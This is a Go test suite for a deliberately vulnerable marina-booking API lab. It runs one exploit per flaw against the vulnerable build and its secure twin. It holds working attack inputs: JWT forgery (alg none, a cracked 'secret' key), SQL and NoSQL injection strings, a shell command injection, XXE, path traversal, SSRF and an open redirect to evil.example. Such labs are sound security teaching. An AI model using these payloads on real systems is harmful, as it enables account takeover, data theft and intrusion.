package lab

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// env is one lab instance behind a real loopback HTTP server.
type env struct {
	t      *testing.T
	lab    *Lab
	srv    *httptest.Server
	client *http.Client
	tokens map[string]string
}

func newEnv(t *testing.T, secure bool) *env {
	t.Helper()
	l, err := New(Options{Secure: secure, Dir: t.TempDir()})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	srv := httptest.NewServer(l.Handler())
	t.Cleanup(func() {
		srv.Close()
		l.Close()
	})
	return &env{t: t, lab: l, srv: srv, tokens: map[string]string{}, client: &http.Client{
		Timeout:       30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}}
}

// resp is a response read in full.
type resp struct {
	status int
	header http.Header
	body   []byte
}

func (r resp) json(t *testing.T) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(r.body, &m); err != nil {
		t.Fatalf("response is not a JSON object: %v: %.300s", err, r.body)
	}
	return m
}

func (r resp) has(s string) bool { return bytes.Contains(r.body, []byte(s)) }

// do sends a request; body is JSON-encoded unless it is a string or
// []byte; token is a bearer token or "" for none.
func (e *env) do(method, path, token string, body any, headers ...string) resp {
	e.t.Helper()
	var rd io.Reader
	ctype := ""
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	case []byte:
		rd = bytes.NewReader(b)
	default:
		data, err := json.Marshal(b)
		if err != nil {
			e.t.Fatal(err)
		}
		rd, ctype = bytes.NewReader(data), "application/json"
	}
	req, err := http.NewRequest(method, e.srv.URL+path, rd)
	if err != nil {
		e.t.Fatal(err)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	res, err := e.client.Do(req)
	if err != nil {
		e.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	data, err := io.ReadAll(io.LimitReader(res.Body, 64<<20))
	if err != nil {
		e.t.Fatalf("%s %s: read: %v", method, path, err)
	}
	return resp{status: res.StatusCode, header: res.Header, body: data}
}

func password(name string) string {
	for _, u := range Users() {
		if u.Username == name {
			return u.Password
		}
	}
	return ""
}

// token logs name in (once) and returns the access token.
func (e *env) token(name string) string {
	e.t.Helper()
	if tok, ok := e.tokens[name]; ok {
		return tok
	}
	r := e.do("POST", "/api/v2/auth/login", "", map[string]string{"username": name, "password": password(name)})
	if r.status != http.StatusOK {
		e.t.Fatalf("login %s: %d %s", name, r.status, r.body)
	}
	tok, _ := r.json(e.t)["access_token"].(string)
	e.tokens[name] = tok
	return tok
}

func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func payload(sub, name, role string, exp time.Time) string {
	return b64(fmt.Sprintf(`{"iss":%q,"sub":%q,"name":%q,"role":%q,"iat":%d,"exp":%d}`,
		issuer, sub, name, role, exp.Add(-time.Hour).Unix(), exp.Unix()))
}

func sign(t *testing.T, key []byte, c jwt.MapClaims) string {
	t.Helper()
	s, err := jwt.NewWithClaims(jwt.SigningMethodHS256, c).SignedString(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// createBooking books berth 2 for two nights as name and returns its id.
func (e *env) createBooking(name string) string {
	e.t.Helper()
	r := e.do("POST", "/api/v2/bookings", e.token(name), map[string]any{"berth_id": 2, "nights": 2})
	if r.status != http.StatusCreated {
		e.t.Fatalf("create booking: %d %s", r.status, r.body)
	}
	return fmt.Sprint(r.json(e.t)["id"])
}

// listener is a loopback HTTP server that counts its hits: the target of
// SSRF and unsafe-consumption exploits.
func listener(t *testing.T, h http.HandlerFunc) (*httptest.Server, *atomic.Int64) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		h(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// exploits proves each flaw: it returns true when the flaw was exploited.
// Every flaw in flaws.json must have one.
var exploits = map[string]func(t *testing.T, e *env) bool{
	"bola-read-boat": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/boats/3", e.token("alice"), nil)
		return r.status == 200 && r.has("Mistral")
	},
	"bola-delete-boat": func(t *testing.T, e *env) bool {
		r := e.do("DELETE", "/api/v2/boats/3", e.token("alice"), nil)
		after := e.do("GET", "/api/v2/boats/3", e.token("bob"), nil)
		return r.status == 204 && after.status == 404
	},
	"bola-update-booking": func(t *testing.T, e *env) bool {
		e.do("PATCH", "/api/v2/bookings/2", e.token("alice"), map[string]string{"notes": "changed by alice"})
		r := e.do("GET", "/api/v2/bookings/2", e.token("bob"), nil)
		return r.json(t)["notes"] == "changed by alice"
	},
	"bola-invoice-query": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/invoices?booking_id=2", e.token("alice"), nil)
		return r.status == 200 && r.has("Bob Tanaka")
	},
	"authn-no-credentials": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/reports/occupancy", "", nil)
		return r.status == 200 && r.has("revenue_cents")
	},
	"authn-garbled-token": func(t *testing.T, e *env) bool {
		return e.do("GET", "/api/v2/marina/notices", "garbage.not.a-jwt", nil).status == 200
	},
	"authn-alg-none": func(t *testing.T, e *env) bool {
		tok := b64(`{"alg":"none","typ":"JWT"}`) + "." + payload("3", "bob", "member", time.Now().Add(time.Hour)) + "."
		r := e.do("GET", "/api/v2/users/me", tok, nil)
		return r.status == 200 && r.json(t)["username"] == "bob"
	},
	"authn-unverified-signature": func(t *testing.T, e *env) bool {
		parts := strings.Split(e.token("alice"), ".")
		tok := parts[0] + "." + payload("3", "bob", "member", time.Now().Add(time.Hour)) + "." + parts[2]
		r := e.do("GET", "/api/v2/notifications", tok, nil)
		return r.status == 200 && r.json(t)["user"] == "bob"
	},
	"authn-expired-token": func(t *testing.T, e *env) bool {
		tok := sign(t, e.lab.secret, jwt.MapClaims{"iss": issuer, "sub": "2", "name": "alice", "role": "member",
			"iat": time.Now().Add(-48 * time.Hour).Unix(), "exp": time.Now().Add(-24 * time.Hour).Unix()})
		return e.do("GET", "/api/v2/users/me", tok, nil).status == 200
	},
	"authn-weak-secret": func(t *testing.T, e *env) bool {
		// Crack the login's token with a one-word list, then mint an admin token.
		_, err := jwt.Parse(e.token("alice"), func(*jwt.Token) (any, error) { return []byte("secret"), nil })
		cracked := err == nil
		tok := sign(t, []byte("secret"), jwt.MapClaims{"iss": issuer, "sub": "1", "name": "admin", "role": "admin",
			"exp": time.Now().Add(time.Hour).Unix()})
		r := e.do("GET", "/api/v2/admin/settings", tok, nil)
		return cracked && r.status == 200
	},
	"authn-credentials-in-url": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/auth/token?username=alice&password="+url.QueryEscape(password("alice")), "", nil)
		return r.status == 200 && r.has("access_token")
	},
	"authn-user-enumeration": func(t *testing.T, e *env) bool {
		unknown := e.do("POST", "/api/v2/auth/login", "", map[string]string{"username": "zed", "password": "x"})
		wrong := e.do("POST", "/api/v2/auth/login", "", map[string]string{"username": "alice", "password": "x"})
		return unknown.status != wrong.status || unknown.json(t)["error"] != wrong.json(t)["error"]
	},
	"authn-no-brute-force-protection": func(t *testing.T, e *env) bool {
		for i := range 30 {
			r := e.do("POST", "/api/v2/auth/login", "", map[string]string{"username": "bob", "password": fmt.Sprintf("guess-%d", i)})
			if r.status == http.StatusTooManyRequests {
				return false
			}
		}
		return true
	},
	"prop-mass-assignment": func(t *testing.T, e *env) bool {
		e.do("PATCH", "/api/v2/users/me", e.token("alice"), map[string]string{"role": "admin", "phone": "+44 1632 960999"})
		r := e.do("GET", "/api/v2/users/me", e.token("alice"), nil)
		return r.json(t)["role"] == "admin"
	},
	"prop-excessive-exposure": func(t *testing.T, e *env) bool {
		m := e.do("GET", "/api/v2/users/3/profile", e.token("alice"), nil).json(t)
		_, email := m["email"]
		_, addr := m["address"]
		return email || addr
	},
	"prop-sensitive-data": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/payments/methods", e.token("alice"), nil)
		return r.status == 200 && r.has("4111111111111111")
	},
	"rate-unbounded-limit": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/berths?limit=5000", "", nil)
		if r.status != 200 {
			return false
		}
		items, _ := r.json(t)["items"].([]any)
		return len(items) > maxPage
	},
	"rate-oversized-payload": func(t *testing.T, e *env) bool {
		big := map[string]any{"rating": 5, "body": strings.Repeat("lovely marina ", 150_000)} // ~2 MB
		return e.do("POST", "/api/v2/reviews", e.token("alice"), big).status == http.StatusCreated
	},
	"rate-redos": func(t *testing.T, e *env) bool {
		tok := e.token("alice")
		start := time.Now()
		r := e.do("GET", "/api/v2/boats/search?pattern="+url.QueryEscape("(a+)+$"), tok, nil)
		took := time.Since(start)
		t.Logf("(a+)+$ took %v (status %d)", took, r.status)
		return took > time.Second
	},
	"rate-no-limit-lookup": func(t *testing.T, e *env) bool {
		tok := e.token("alice")
		for range 30 {
			if e.do("POST", "/api/v2/tools/dns-lookup", tok, map[string]string{"host": "localhost"}).status == http.StatusTooManyRequests {
				return false
			}
		}
		return true
	},
	"bfla-admin-users": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/admin/users", e.token("alice"), nil)
		return r.status == 200 && r.has("carol")
	},
	"bfla-method-switch": func(t *testing.T, e *env) bool {
		tok := e.token("alice")
		if got := e.do("GET", "/api/v2/admin/settings", tok, nil).status; got != http.StatusForbidden {
			t.Errorf("GET /api/v2/admin/settings as alice = %d, want 403 in both modes", got)
		}
		e.do("PUT", "/api/v2/admin/settings", tok, map[string]string{"harbour_notice": "free berths for alice"})
		r := e.do("GET", "/api/v2/admin/settings", e.token("admin"), nil)
		return r.json(t)["harbour_notice"] == "free berths for alice"
	},
	"flow-skip-payment": func(t *testing.T, e *env) bool {
		id := e.createBooking("alice")
		r := e.do("POST", "/api/v2/bookings/"+id+"/confirm", e.token("alice"), nil)
		return r.status == 200 && r.json(t)["status"] == "confirmed"
	},
	"flow-coupon-replay": func(t *testing.T, e *env) bool {
		id := e.createBooking("alice")
		first := e.do("POST", "/api/v2/bookings/"+id+"/coupon", e.token("alice"), map[string]string{"code": "WELCOME10"})
		second := e.do("POST", "/api/v2/bookings/"+id+"/coupon", e.token("alice"), map[string]string{"code": "WELCOME10"})
		if first.status != 200 {
			t.Errorf("first coupon = %d %s, want 200 in both modes", first.status, first.body)
		}
		return second.status == 200
	},
	"flow-negative-nights": func(t *testing.T, e *env) bool {
		r := e.do("POST", "/api/v2/bookings", e.token("alice"), map[string]any{"berth_id": 2, "nights": -5})
		if r.status != http.StatusCreated {
			return false
		}
		total, _ := r.json(t)["total_cents"].(float64)
		return total < 0
	},
	"ssrf-avatar-fetch": func(t *testing.T, e *env) bool {
		srv, hits := listener(t, func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("GIF89a")) })
		e.do("POST", "/api/v2/users/me/avatar", e.token("alice"), map[string]string{"url": srv.URL + "/probe.gif"})
		return hits.Load() > 0
	},
	"ssrf-webhook-internal": func(t *testing.T, e *env) bool {
		srv, _ := listener(t, func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("INTERNAL-ONLY-7731")) })
		r := e.do("POST", "/api/v2/webhooks/test", e.token("alice"), map[string]string{"url": srv.URL + "/admin"})
		return r.status == 200 && r.has("INTERNAL-ONLY-7731")
	},
	"inj-sql-berths": func(t *testing.T, e *env) bool {
		q := func(dock string) resp { return e.do("GET", "/api/v2/berths?dock="+url.QueryEscape(dock), "", nil) }
		count := func(r resp) int { items, _ := r.json(t)["items"].([]any); return len(items) }
		errorBased := func() bool { r := q("A'"); return r.status == 500 && r.has("unrecognized token") }()
		boolean := count(q("A' OR '1'='1")) == 12 && count(q("A' AND '1'='2")) == 0 && count(q("A")) == 4
		start := time.Now()
		q("A' AND sleep(2)=0 --")
		timeBased := time.Since(start) >= 1900*time.Millisecond
		if errorBased != boolean || boolean != timeBased {
			t.Errorf("error-based %v, boolean-based %v, time-based %v: want all the same", errorBased, boolean, timeBased)
		}
		return errorBased || boolean || timeBased
	},
	"inj-nosql-coupon": func(t *testing.T, e *env) bool {
		r := e.do("POST", "/api/v2/coupons/validate", e.token("alice"), `{"code": {"$ne": ""}}`)
		return r.status == 200 && r.has("HARBOURCREW100")
	},
	"inj-command-lookup": func(t *testing.T, e *env) bool {
		r := e.do("POST", "/api/v2/tools/dns-lookup", e.token("alice"), map[string]string{"host": "localhost; echo INJECTED-$((6*7))"})
		return r.has("INJECTED-42")
	},
	"inj-template-preview": func(t *testing.T, e *env) bool {
		r := e.do("POST", "/api/v2/notifications/preview", e.token("alice"), map[string]string{"template": "Ahoy {{user.name}}: {{7*7}} ${6*7}"})
		rendered, _ := r.json(t)["rendered"].(string)
		if !strings.HasPrefix(rendered, "Ahoy Alice Marlowe: ") {
			t.Errorf("rendered = %q, want the placeholder substituted in both modes", rendered)
		}
		return strings.Contains(rendered, "49") && strings.Contains(rendered, "42")
	},
	"inj-path-traversal": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/marina/documents?file="+url.QueryEscape("../private/gate-codes.txt"), e.token("alice"), nil)
		return r.status == 200 && r.has("QUAYSIDE-PRIVATE")
	},
	"inj-xxe-import": func(t *testing.T, e *env) bool {
		secret := filepath.Join(t.TempDir(), "secret.txt")
		os.WriteFile(secret, []byte("XXE-MARKER-5150"), 0o600)
		doc := `<?xml version="1.0"?><!DOCTYPE boat [<!ENTITY x SYSTEM "file://` + secret + `">]>` +
			`<boat><name>&x;</name><registration>QS-9</registration><length_m>5</length_m></boat>`
		r := e.do("POST", "/api/v2/boats/import", e.token("alice"), doc, "Content-Type", "application/xml")
		return r.status == 201 && r.has("XXE-MARKER-5150")
	},
	"conf-cors-reflection": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/users/me", e.token("alice"), nil, "Origin", "https://evil.example")
		return r.header.Get("Access-Control-Allow-Origin") == "https://evil.example" && r.header.Get("Access-Control-Allow-Credentials") == "true"
	},
	"conf-missing-security-headers": func(t *testing.T, e *env) bool {
		h := e.do("GET", "/api/v2/health", "", nil).header
		return h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") == "" || h.Get("Content-Security-Policy") == ""
	},
	"conf-verbose-errors": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/bookings/abc", e.token("alice"), nil)
		return r.status == 500 && r.has("goroutine")
	},
	"conf-trace-enabled": func(t *testing.T, e *env) bool {
		r := e.do("TRACE", "/api/v2/health", "", nil, "X-Probe", "trace-me-77")
		return r.status == 200 && r.has("trace-me-77")
	},
	"conf-technology-disclosure": func(t *testing.T, e *env) bool {
		h := e.do("GET", "/api/v2/health", "", nil).header
		return strings.Contains(h.Get("Server"), "/") || h.Get("X-Powered-By") != ""
	},
	"conf-open-redirect": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/auth/logout?next="+url.QueryEscape("https://evil.example/login"), "", nil)
		return r.status == 302 && strings.HasPrefix(r.header.Get("Location"), "https://evil.example")
	},
	"inv-undocumented-debug": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/debug/vars", "", nil)
		return r.status == 200 && r.has("jwt_secret")
	},
	"inv-deprecated-export": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v2/bookings/export", e.token("alice"), nil)
		return r.status == 200 && r.has("bob@quayside.test")
	},
	"inv-old-version": func(t *testing.T, e *env) bool {
		r := e.do("GET", "/api/v1/users/me", e.token("alice"), nil)
		return r.status == 200 && r.has("alice")
	},
	"cons-partner-weather": func(t *testing.T, e *env) bool {
		var partner *httptest.Server
		partner, hits := listener(t, func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/feed" {
				http.Redirect(w, r, partner.URL+"/moved/feed.json", http.StatusFound)
				return
			}
			w.Write([]byte(`{"station": "O'Hare", "readings": [{"at": "2026-05-01T10:00:00Z", "wind_kt": 14}]}`))
		})
		r := e.do("POST", "/api/v2/partners/weather/import", e.token("alice"), map[string]string{"feed_url": partner.URL + "/feed"})
		// The partner's station name broke the lab's SQL: its data reached the query unescaped.
		return hits.Load() >= 2 && r.status == 500 && r.has("database_error")
	},
}

func TestFlaws(t *testing.T) {
	fl := Flaws()
	if len(fl) < 20 {
		t.Fatalf("%d flaws, want at least 20", len(fl))
	}
	for _, f := range fl {
		t.Run(f.ID, func(t *testing.T) {
			exploit, ok := exploits[f.ID]
			if !ok {
				t.Fatalf("flaw %s has no exploit test", f.ID)
			}
			t.Run("vulnerable", func(t *testing.T) {
				if !exploit(t, newEnv(t, false)) {
					t.Errorf("%s (%s %s) could not be exploited in the vulnerable lab", f.ID, f.Method, f.Path)
				}
			})
			t.Run("secure", func(t *testing.T) {
				if exploit(t, newEnv(t, true)) {
					t.Errorf("%s (%s %s) is still exploitable in the secure twin", f.ID, f.Method, f.Path)
				}
			})
		})
	}
	for id := range exploits {
		found := false
		for _, f := range fl {
			found = found || f.ID == id
		}
		if !found {
			t.Errorf("exploit %s has no flaw in flaws.json", id)
		}
	}
}
